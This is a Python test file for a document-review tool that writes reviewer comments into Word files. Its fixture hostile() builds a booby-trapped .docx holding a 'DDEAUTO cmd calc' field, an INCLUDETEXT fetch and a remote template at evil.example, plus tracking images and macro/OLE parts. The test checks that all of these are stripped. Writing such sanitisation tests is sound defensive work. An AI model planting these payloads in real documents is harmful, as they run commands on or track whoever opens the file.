"""A Word document comes back clean, with native comments at the words they speak of."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import pytest

from reviewer.engine import readers
from reviewer.engine.document import Document, Limits, Unreadable
from reviewer.engine.readers.sniff import DOCX, TEXT
from reviewer.engine.returning import Note, from_text, returned
from tests.engine import returned_files as back

CORPUS = Path(__file__).parents[1] / "corpus/clean/office"
FILES = sorted(CORPUS.glob("*.docx"))
PLAIN = CORPUS / "word.docx"
IN_BODY = frozenset(("title", "heading", "paragraph", "list_item", "quotation", "table", "references"))


def notes_on(document: Document) -> list[Note]:
    """A note on the middle of every block of the body, long ones and short ones in turn."""
    found = []
    for number, block in enumerate(one for one in document.blocks if one.kind in IN_BODY and one.end - one.start > 12):
        start = block.start + (block.end - block.start) // 4
        end = min(block.end, start + (9, 40, 200)[number % 3])
        while document.text[start].isspace():
            start += 1
        found.append(back.note_on(document, start, end, f"Remark {number} <b>&amp; años"))
    return found


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.stem)
def test_every_comment_stands_at_its_words(path: Path) -> None:
    data = path.read_bytes()
    document = readers.read(data, name=path.name)
    notes = notes_on(document)
    made = returned(data, DOCX, back.sheet(*notes), limits=Limits())
    found = {one.text.rpartition("\n")[2]: one for one in back.remarks(made)}
    assert len(notes) >= 5
    assert found.keys() == {note.text for note in notes}
    assert {one.author for one in found.values()} == {back.DAIS}
    for note in notes:
        words = back.letters(found[note.text].words)
        assert words == back.letters(note.quote) or note.about in found[note.text].text, note.quote
    again = readers.read(made, name=path.name)
    assert "Content: 4 of 5" in again.text
    assert len(again.text) > len(document.text)


def test_words_of_a_footnote_are_marked_at_its_sign_and_a_running_head_s_at_the_end() -> None:
    data = PLAIN.read_bytes()
    document = readers.read(data)
    notes = [
        back.note_on(document, one.start, one.end, f"On the {one.kind}")
        for one in document.blocks
        if one.kind in ("footnote", "header", "footer")
    ]
    made = returned(data, DOCX, back.sheet(*notes), limits=Limits())
    said = {one.text.rpartition("\n")[2]: one.text for one in back.remarks(made)}
    assert "On the footnote" in said
    assert "On these words" in said["On the footnote"]
    text = readers.read(made).text
    heads = [note for note in notes if note.text != "On the footnote"]
    assert heads
    assert all(note.text in text and note.about in text for note in heads)


def test_the_same_words_twice_are_told_apart_by_what_stands_around_them() -> None:
    written = docx.Document()
    for place in ("first", "second", "third"):
        written.add_paragraph(f"In the {place} place, we call for kelp clinics along the shore.")
    data = _saved(written)
    document = readers.read(data)
    start = document.text.rindex("kelp clinics", 0, document.text.index("third"))
    made = returned(data, DOCX, back.sheet(back.note_on(document, start, start + 12, "Who pays?")), limits=Limits())
    body = back.part(made, "word/document.xml").decode()
    assert body.index("second") < body.index("commentRangeStart") < body.index("third")


def test_words_that_are_not_there_and_the_whole_paper_are_spoken_of_at_the_end() -> None:
    data = PLAIN.read_bytes()
    notes = [Note("Gone words", "zebra quorum lattice", about="On: zebra quorum lattice"), Note("Well argued.")]
    made = returned(data, DOCX, back.sheet(*notes), limits=Limits())
    assert "word/comments.xml" not in back.names(made)
    text = readers.read(made).text
    assert text.index("Further comments") < text.index("On: zebra quorum lattice") < text.index("Gone words")
    assert "Well argued." in text


def test_remarks_may_overlap_and_begin_together() -> None:
    written = docx.Document()
    paragraph = written.add_paragraph("The delegation ")
    paragraph.add_run("proposes forty").bold = True
    paragraph.add_run(" clinics for everyone.")
    data = _saved(written)
    document = readers.read(data)
    spans = [(0, 14), (4, 24), (4, 10), (15, len(document.text)), (0, len(document.text))]
    notes = [back.note_on(document, start, end, f"n{start}-{end}") for start, end in spans]
    found = back.remarks(returned(data, DOCX, back.sheet(*notes), limits=Limits()))
    wanted = [back.letters(document.text[start:end]) for start, end in spans]
    assert [back.letters(one.words) for one in found] == wanted


def _saved(document: object) -> bytes:
    made = io.BytesIO()
    document.save(made)  # type: ignore[attr-defined]
    return made.getvalue()


EVIL_BODY = """<w:p w:rsidR="00AB12CD">
<w:ins w:id="9" w:author="Perla Quintero" w:date="2031-01-01T00:00:00Z"><w:r><w:t>Inserted kelp words</w:t></w:r>
</w:ins><w:commentRangeStart w:id="0"/><w:r><w:t xml:space="preserve"> plain words </w:t></w:r>
<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>
<w:hyperlink r:id="rIdOut"><w:r><w:t>linked words</w:t></w:r></w:hyperlink>
<w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText>INCLUDETEXT "\\\\evil.example\\x"</w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>fetched words</w:t></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r>
<w:fldSimple w:instr="DDEAUTO cmd calc"><w:r><w:t>run words</w:t></w:r></w:fldSimple>
<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rIdOle"/></w:object></w:r>
<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="http://evil.example/a">
<v:imagedata r:id="rIdImage"/></v:shape></w:pict></w:r>
</w:p><w:altChunk r:id="rIdChunk"/>"""
RELATIONS = """<Relationship Id="rIdOut" Type="{o}/hyperlink" Target="http://evil.example/link" TargetMode="External"/>
<Relationship Id="rIdOle" Type="{o}/oleObject" Target="embeddings/ole.bin"/>
<Relationship Id="rIdImage" Type="{o}/image" Target="http://evil.example/pixel.png" TargetMode="External"/>
<Relationship Id="rIdChunk" Type="{o}/aFChunk" Target="chunk.htm"/>
<Relationship Id="rIdVba" Type="{m}/vbaProject" Target="vbaProject.bin"/>
<Relationship Id="rIdSettings" Type="{o}/settings" Target="settings.xml"/>
<Relationship Id="rIdComments" Type="{o}/comments" Target="comments.xml"/>
""".format(
    o="http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    m="http://schemas.microsoft.com/office/2006/relationships",
)


def hostile() -> bytes:
    made = io.BytesIO()
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    spaces = f'xmlns:w="{back.W.strip("{}")}" xmlns:r="{office}"'
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("[Content_Types].xml", f'<Types xmlns="{package}/content-types"/>')
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{package}/relationships">'
            f'<Relationship Id="a" Type="{office}/officeDocument" Target="word/document.xml"/>'
            f'<Relationship Id="b" Type="{office}/custom-properties" Target="docProps/custom.xml"/></Relationships>',
        )
        archive.writestr("word/document.xml", f"<w:document {spaces}><w:body>{EVIL_BODY}</w:body></w:document>")
        archive.writestr(
            "word/_rels/document.xml.rels",
            f'<Relationships xmlns="{package}/relationships">{RELATIONS}</Relationships>',
        )
        archive.writestr(
            "word/settings.xml",
            f'<w:settings {spaces}><w:attachedTemplate r:id="x"/><w:documentProtection w:edit="readOnly"/>'
            '<w:defaultTabStop w:val="720"/><w:rsids><w:rsid w:val="00AB12CD"/></w:rsids></w:settings>',
        )
        archive.writestr(
            "word/_rels/settings.xml.rels",
            f'<Relationships xmlns="{package}/relationships"><Relationship Id="x" Type="{office}/attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        )
        archive.writestr(
            "word/comments.xml",
            f'<w:comments {spaces}><w:comment w:id="0" w:author="Perla Quintero"><w:p/></w:comment></w:comments>',
        )
        for name in ("vbaProject.bin", "embeddings/ole.bin", "chunk.htm"):
            archive.writestr(f"word/{name}", b"MZ macro http://evil.example")
        archive.writestr("docProps/custom.xml", "<Properties>Perla Quintero</Properties>")
        archive.writestr("docProps/core.xml", "<core>Perla Quintero</core>")
    return made.getvalue()


def test_nothing_that_runs_fetches_or_names_others_is_carried_over() -> None:
    notes = [
        Note(f"On {words}", words) for words in ("Inserted kelp", "plain words", "linked words", "fetched", "run words")
    ]
    made = returned(hostile(), DOCX, back.sheet(*notes), limits=Limits())
    assert set(back.names(made)) <= {
        "[Content_Types].xml",
        "_rels/.rels",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        "word/settings.xml",
        "word/comments.xml",
    }
    everything = b"".join(back.part(made, name) for name in back.names(made)).lower()
    for trace in (
        b"evil",
        b"perla",
        b"00ab12cd",
        b"includetext",
        b"dde",
        b"attachedtemplate",
        b"readonly",
        b"altchunk",
    ):
        assert trace not in everything, trace
    found = back.remarks(made)
    assert [back.letters(one.words) for one in found] == [back.letters(note.quote) for note in notes]
    assert docx.Document(io.BytesIO(made)).paragraphs


def test_pictures_lose_what_their_camera_wrote() -> None:
    from PIL import Image

    picture = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "Camera of Perla Quintero"
    Image.new("RGB", (40, 30), "teal").save(picture, "JPEG", exif=exif, comment=b"Perla was here")
    written = docx.Document()
    written.add_paragraph("Kelp words above a picture.")
    written.add_picture(io.BytesIO(picture.getvalue()))
    made = returned(_saved(written), DOCX, back.sheet(Note("Nice.", "Kelp words")), limits=Limits())
    (name,) = [one for one in back.names(made) if one.startswith("word/media/")]
    kept = back.part(made, name)
    assert b"Perla" in picture.getvalue()
    assert b"Perla" not in kept
    assert Image.open(io.BytesIO(kept)).size == (40, 30)
    assert docx.Document(io.BytesIO(made)).inline_shapes[0].width


@pytest.mark.parametrize(
    ("data", "code"), [(b"PK\x03\x04 broken", "corrupt"), (b"", "corrupt")], ids=["broken", "empty"]
)
def test_a_file_that_cannot_be_copied_is_refused(data: bytes, code: str) -> None:
    with pytest.raises(Unreadable) as refused:
        returned(data, DOCX, back.sheet(Note("x")), limits=Limits())
    assert refused.value.code == code


def test_a_plain_text_comes_back_as_a_word_document() -> None:
    lines = [f"Ruritania asks in line {number} for {number + 2} stations above the border." for number in range(9)]
    document = readers.read("\n\n".join(lines).encode(), name="rivers.txt")
    assert document.media_type == TEXT
    notes = notes_on(document)
    blocks: list[tuple[str, str]] = [(one.kind, document.text[one.start : one.end]) for one in document.blocks]
    found = back.remarks(from_text(blocks, back.sheet(*notes)))
    assert len(found) == len(notes) > 5
    assert [back.letters(one.words) for one in found] == [back.letters(note.quote) for note in notes]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
@pytest.mark.slow
def test_libreoffice_keeps_every_comment(tmp_path: Path) -> None:
    """LibreOffice reads the returned file and writes it again: the same comments are at the same words."""
    data = PLAIN.read_bytes()
    notes = notes_on(readers.read(data))
    made = returned(data, DOCX, back.sheet(*notes), limits=Limits())
    (tmp_path / "back.docx").write_bytes(made)
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = ["soffice", profile, "--headless", "--convert-to", "docx:MS Word 2007 XML", "--outdir"]
    subprocess.run(
        [*command, str(tmp_path / "again"), str(tmp_path / "back.docx")], check=True, capture_output=True, timeout=110
    )
    mine = {one.text.strip(): back.letters(one.words) for one in back.remarks(made)}
    theirs = {
        one.text.strip(): back.letters(one.words) for one in back.remarks((tmp_path / "again/back.docx").read_bytes())
    }
    assert theirs == mine
